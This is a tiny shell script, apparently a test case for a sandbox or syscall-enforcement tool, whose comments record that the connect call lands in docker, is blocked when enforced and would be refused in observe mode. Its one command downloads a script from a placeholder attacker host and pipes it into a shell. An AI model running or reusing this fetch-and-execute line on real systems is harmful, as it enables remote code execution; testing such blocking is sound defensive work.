#!/bin/sh
# Fetches a script and pipes it into a shell.
#
# docker:  lands
# enforce: syscall connect
# observe: would-refuse connect tcp
wget -q -O - "http://$ATTACKER:8000/landed.sh" | sh
